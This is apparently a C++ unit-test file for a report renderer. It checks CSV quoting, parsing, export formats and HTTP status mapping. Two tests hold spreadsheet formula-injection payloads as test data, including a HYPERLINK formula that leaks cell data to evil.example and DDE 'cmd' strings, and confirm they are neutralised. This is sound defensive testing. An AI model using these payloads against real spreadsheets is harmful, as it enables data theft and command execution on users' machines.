#include "services/reporting/render.h"

#include <set>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "absl/strings/str_cat.h"
#include "services/reporting/http_endpoint.h"
#include "tests/support/report_samples.h"
#include "tests/support/status_matchers.h"
#include "tests/unit/render_test_support.h"

namespace sixsteps::reporting {
namespace {

using ::sixsteps::testing::IsOk;
using ::sixsteps::testing::StatusIs;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

using Table = std::vector<std::vector<std::string>>;

// A strict RFC 4180 reader: records end with CRLF, fields are quoted when they hold a
// comma, quote, CR or LF, quotes inside are doubled. Fails on anything else (a bare LF
// outside quotes, a quote inside an unquoted field, an unterminated quote).
absl::StatusOr<Table> ParseCsv(const std::string& text) {
  Table rows;
  std::vector<std::string> row;
  std::string field;
  size_t i = 0;
  bool at_field_start = true;
  while (i < text.size()) {
    if (at_field_start && text[i] == '"') {
      ++i;
      while (true) {
        if (i >= text.size()) return absl::InvalidArgumentError("unterminated quoted field");
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field.push_back('"');
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field.push_back(text[i++]);
      }
      at_field_start = false;
      if (i < text.size() && text[i] != ',' && text[i] != '\r')
        return absl::InvalidArgumentError(absl::StrCat("junk after quoted field at ", i));
      continue;
    }
    char c = text[i];
    if (c == ',') {
      row.push_back(std::move(field));
      field.clear();
      at_field_start = true;
      ++i;
    } else if (c == '\r') {
      if (i + 1 >= text.size() || text[i + 1] != '\n')
        return absl::InvalidArgumentError("CR without LF");
      row.push_back(std::move(field));
      field.clear();
      rows.push_back(std::move(row));
      row.clear();
      at_field_start = true;
      i += 2;
    } else if (c == '\n') {
      return absl::InvalidArgumentError(absl::StrCat("bare LF at ", i));
    } else if (c == '"') {
      return absl::InvalidArgumentError(absl::StrCat("quote inside an unquoted field at ", i));
    } else {
      field.push_back(c);
      at_field_start = false;
      ++i;
    }
  }
  if (!row.empty() || !field.empty()) return absl::InvalidArgumentError("last record lacks CRLF");
  return rows;
}

// ---- CSV ----

TEST(RenderCsv, AssessmentParsesBackOneRowPerQuestion) {
  auto report = testing::SampleAssessmentReport();
  Rendered r = MustRender(report, v1::FORMAT_CSV);
  EXPECT_EQ(r.content_type, "text/csv; charset=utf-8; header=present");
  EXPECT_EQ(r.filename, "assessment-a-0123456789abcdef.csv");
  EXPECT_THAT(r.content, Not(StartsWith("\xEF\xBB\xBF"))) << "no byte order mark";

  absl::StatusOr<Table> table = ParseCsv(r.content);
  ASSERT_THAT(table, IsOk());
  ASSERT_EQ(table->size(), 1u + 4u) << "a header and one row per question";
  EXPECT_THAT((*table)[0],
              ElementsAre("step_id", "step_title", "question_id", "question", "consolidated_rating",
                          "evidence_items", "evidence_missing", "divergent", "open_challenges",
                          testing::kTrickyLabel, "Northumbria Police"));
  EXPECT_THAT((*table)[1],
              ElementsAre("step-1", report.steps(0).title(), "1a",
                          "Have the three partners agreed a process for a child centred plan?",
                          "Green", "3", "no", "severe", "0", "Green", "Red"));
  EXPECT_THAT((*table)[2],
              ElementsAre("step-1", report.steps(0).title(), "1b", testing::kMultilineQuestion,
                          "Amber", "0", "yes", "no", "1", "Amber", "Amber"));
  EXPECT_THAT((*table)[3],
              ElementsAre("step-2", report.steps(1).title(), "2a", testing::kScriptQuestion, "Red",
                          "1", "no", "no", "0", "Red", "Not rated"));
  EXPECT_THAT((*table)[4], ElementsAre("step-2", report.steps(1).title(), "2b",
                                       "Is learning from reviews cascaded?", "Not rated", "0", "no",
                                       "no", "0", "Not rated", "Not rated"));
  // The label's quote is doubled inside a quoted field, the UTF-8 left alone.
  EXPECT_THAT(r.content, HasSubstr("\"Café – Sørensen, \"\"Independent\"\" Scrutineer\""));
}

TEST(RenderCsv, OtherReportsOneRowPerItem) {
  absl::StatusOr<Table> trend =
      ParseCsv(MustRender(testing::SamplePartnershipTrend(), v1::FORMAT_CSV).content);
  ASSERT_THAT(trend, IsOk());
  ASSERT_EQ(trend->size(), 3u);
  EXPECT_THAT((*trend)[0],
              ElementsAre("step_id", "question_id", "question", "Scrutiny 2023 (2023-03-31)",
                          "Scrutiny 2024 (2024-03-31)", "trend"));
  EXPECT_THAT((*trend)[1],
              ElementsAre("step-1", "1a", testing::kScriptQuestion, "Red", "Green", "Improved"));
  EXPECT_THAT((*trend)[2], ElementsAre("step-1", "1b", "Second question", "Not rated", "Amber",
                                       "Not comparable"));

  absl::StatusOr<Table> region =
      ParseCsv(MustRender(testing::SampleRegionalOverview(), v1::FORMAT_CSV).content);
  ASSERT_THAT(region, IsOk());
  ASSERT_EQ(region->size(), 3u) << "one row per partnership";
  EXPECT_EQ((*region)[0].back(), "heat_step-2");
  EXPECT_EQ((*region)[1][1], "Sunderland, \"SSCP\"");
  EXPECT_EQ((*region)[1][10], "1.00");
  EXPECT_EQ((*region)[1][11], "2.00");
  EXPECT_EQ((*region)[2][2], "yes");
  EXPECT_EQ((*region)[2][11], "") << "no step-2 in that round";

  absl::StatusOr<Table> actions =
      ParseCsv(MustRender(testing::SampleActionTracker(), v1::FORMAT_CSV).content);
  ASSERT_THAT(actions, IsOk());
  ASSERT_EQ(actions->size(), 3u) << "one row per action, though each is in two groups";
  EXPECT_EQ((*actions)[1][0], "assessments/a-1/actions/x-1");
  EXPECT_EQ((*actions)[1][4], "Northumbria Police");
  EXPECT_EQ((*actions)[1][5], "Agree the plan, with <b>children</b>, \"quickly\"");
  EXPECT_EQ((*actions)[1][8], "yes");

  absl::StatusOr<Table> annual =
      ParseCsv(MustRender(testing::SampleAnnualReportSection(), v1::FORMAT_CSV).content);
  ASSERT_THAT(annual, IsOk());
  ASSERT_EQ(annual->size(), 2u);
  EXPECT_EQ((*annual)[1][2], testing::SampleAnnualReportSection().markdown());
}

TEST(RenderCsv, FieldQuoting) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("line\nbreak"), "\"line\nbreak\"");
  EXPECT_EQ(CsvField("cr\r"), "\"cr\r\"");
  EXPECT_EQ(CsvField("Sørensen"), "Sørensen");
  // A spreadsheet that guesses ';' or tab as the separator must not split a cell either.
  EXPECT_EQ(CsvField("a;b"), "\"a;b\"");
  EXPECT_EQ(CsvField("a\tb"), "\"a\tb\"");
  EXPECT_EQ(CsvField("2026-03-31"), "2026-03-31");
  EXPECT_EQ(CsvField("e-mail"), "e-mail");
}

// The attack of the review: cells a spreadsheet would run as formulas. Each comes out
// quoted with a single quote in front (OWASP), and reads back as that text.
TEST(RenderCsv, FormulaCellsAreNeutralised) {
  const std::vector<std::string> attacks = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "  =1+1",
      "\xEF\xBC\x9D"
      "1+1",  // full-width '='
      "-",
      "=",
  };
  for (const std::string& attack : attacks) {
    EXPECT_TRUE(CsvCellStartsFormula(attack)) << attack;
    std::string field = CsvField(attack);
    EXPECT_THAT(field, StartsWith("\"'")) << attack;
    absl::StatusOr<Table> parsed = ParseCsv(field + "\r\n");
    ASSERT_THAT(parsed, IsOk()) << attack;
    ASSERT_EQ(parsed->size(), 1u);
    EXPECT_THAT((*parsed)[0], ElementsAre("'" + attack)) << attack;
  }
  EXPECT_EQ(CsvField("=\"x\""), "\"'=\"\"x\"\"\"") << "quotes still doubled";
  // Plain numbers stay numbers, and ordinary text stays as it was.
  for (const std::string& plain : {"-3", "+1.5", "-0.25", "12", "a=b", "x-1", "", "'=1"}) {
    EXPECT_FALSE(CsvCellStartsFormula(plain)) << plain;
  }
  EXPECT_EQ(CsvField("-3"), "-3");
}

// Every CSV export, with the attack in every text a user can write (names of partnerships
// and organisations, titles, question texts, action descriptions, the annual section):
// no cell of any of them starts a formula, and each attack is there as text.
TEST(RenderCsv, NoExportedCellStartsAFormula) {
  const std::string attack = "=HYPERLINK(\"http://evil.example\",\"x\")";
  const std::string plus = "+cmd|' /C calc'!A0";
  const std::string at = "@SUM(1+1)";
  const std::string minus = "-1+2";

  v1::AssessmentReport report = testing::SampleAssessmentReport();
  report.set_partnership_name(attack);
  report.set_title(plus);
  report.mutable_steps(0)->set_title(at);
  report.mutable_steps(0)->mutable_questions(0)->set_text(minus);
  report.mutable_steps(0)->mutable_questions(0)->mutable_respondent_ratings(0)->set_label(attack);

  v1::PartnershipTrend trend = testing::SamplePartnershipTrend();
  trend.set_partnership_name(attack);
  trend.mutable_rounds(0)->set_title(plus);
  trend.mutable_questions(0)->set_text(at);

  v1::RegionalOverview overview = testing::SampleRegionalOverview();
  overview.mutable_partnerships(0)->set_partnership_name(attack);
  overview.set_region_name(plus);

  v1::ActionTracker tracker = testing::SampleActionTracker();
  for (auto* groups : {tracker.mutable_by_owner(), tracker.mutable_by_step()}) {
    for (v1::ActionGroup& group : *groups) {
      group.set_label(at);
      for (v1::ActionLine& line : *group.mutable_actions()) line.set_description(attack);
    }
  }

  v1::AnnualReportSection annual = testing::SampleAnnualReportSection();
  annual.set_partnership_name(attack);
  annual.set_markdown(minus);
  annual.set_attribution(plus);

  const std::vector<std::pair<std::string, std::string>> csvs = {
      {"assessment", MustRender(report, v1::FORMAT_CSV).content},
      {"trend", MustRender(trend, v1::FORMAT_CSV).content},
      {"region", MustRender(overview, v1::FORMAT_CSV).content},
      {"actions", MustRender(tracker, v1::FORMAT_CSV).content},
      {"annual", MustRender(annual, v1::FORMAT_CSV).content}};
  for (const auto& [what, csv] : csvs) {
    absl::StatusOr<Table> table = ParseCsv(csv);
    ASSERT_THAT(table, IsOk()) << what;
    std::set<std::string> cells;
    for (const auto& row : *table) {
      for (const std::string& cell : row) {
        EXPECT_FALSE(CsvCellStartsFormula(cell)) << what << ": " << cell;
        cells.insert(cell);
      }
    }
    EXPECT_THAT(csv, Not(HasSubstr(",=HYPERLINK"))) << what;
    EXPECT_THAT(csv, Not(StartsWith("="))) << what;
    bool found = cells.contains("'" + attack) || cells.contains("'" + plus) ||
                 cells.contains("'" + at) || cells.contains("'" + minus);
    EXPECT_TRUE(found) << what << " carries the attack, neutralised:\n" << csv;
  }
}

// ---- Every report, every format ----

template <typename Report>
void ExpectEveryFormat(const Report& report, const std::string& stem) {
  for (v1::Format format : {v1::FORMAT_JSON, v1::FORMAT_CSV, v1::FORMAT_HTML, v1::FORMAT_MARKDOWN,
                            v1::FORMAT_XLSX, v1::FORMAT_TEXT, v1::FORMAT_PDF, v1::FORMAT_DOCX}) {
    SCOPED_TRACE(v1::Format_Name(format));
    absl::StatusOr<Rendered> r = Render(report, format);
    ASSERT_THAT(r, IsOk());
    EXPECT_FALSE(r->content.empty());
    EXPECT_FALSE(r->content_type.empty());
    EXPECT_EQ(r->filename, absl::StrCat(stem, ".", FormatExtension(format)));
  }
  EXPECT_THAT(Render(report, static_cast<v1::Format>(99)),
              StatusIs(absl::StatusCode::kInvalidArgument));
  // An empty message renders too.
  for (v1::Format format : {v1::FORMAT_JSON, v1::FORMAT_CSV, v1::FORMAT_HTML, v1::FORMAT_MARKDOWN,
                            v1::FORMAT_XLSX, v1::FORMAT_TEXT, v1::FORMAT_PDF, v1::FORMAT_DOCX}) {
    EXPECT_THAT(Render(Report(), format), IsOk()) << v1::Format_Name(format);
  }
}

TEST(Render, EveryReportInEveryFormat) {
  ExpectEveryFormat(testing::SampleAssessmentReport(), "assessment-a-0123456789abcdef");
  ExpectEveryFormat(testing::SamplePartnershipTrend(), "trend-sunderland-independent_scrutiny");
  ExpectEveryFormat(testing::SampleRegionalOverview(), "region-north-east");
  ExpectEveryFormat(testing::SampleActionTracker(), "actions-partnerships-sunderland");
  ExpectEveryFormat(testing::SampleAnnualReportSection(), "annual-report-a-0123456789abcdef");
}

TEST(Render, RatingNamesAndLetters) {
  EXPECT_EQ(RatingName(framework::v1::RATING_RED), "Red");
  EXPECT_EQ(RatingName(framework::v1::RATING_UNSPECIFIED), "Not rated");
  EXPECT_EQ(RatingLetter(framework::v1::RATING_AMBER), "A");
  EXPECT_EQ(RatingLetter(framework::v1::RATING_UNSPECIFIED), "-");
}

// ---- HTTP mapping (pure parts of the endpoint) ----

TEST(HttpMapping, StatusCodes) {
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kOk), 200);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kInvalidArgument), 400);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kUnauthenticated), 401);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kPermissionDenied), 403);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kNotFound), 404);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kDeadlineExceeded), 504);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kUnavailable), 503);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kInternal), 500);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kFailedPrecondition), 400);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kResourceExhausted), 429);
}

TEST(HttpMapping, Formats) {
  EXPECT_EQ(*ParseFormat(""), v1::FORMAT_JSON);
  EXPECT_EQ(*ParseFormat("json"), v1::FORMAT_JSON);
  EXPECT_EQ(*ParseFormat("CSV"), v1::FORMAT_CSV);
  EXPECT_EQ(*ParseFormat("md"), v1::FORMAT_MARKDOWN);
  EXPECT_EQ(*ParseFormat("xlsx"), v1::FORMAT_XLSX);
  EXPECT_EQ(*ParseFormat("html"), v1::FORMAT_HTML);
  EXPECT_EQ(*ParseFormat("text"), v1::FORMAT_TEXT);
  EXPECT_EQ(*ParseFormat("pdf"), v1::FORMAT_PDF);
  EXPECT_EQ(*ParseFormat("DOCX"), v1::FORMAT_DOCX);
  EXPECT_THAT(ParseFormat("odt"), StatusIs(absl::StatusCode::kInvalidArgument));
}

}  // namespace
}  // namespace sixsteps::reporting
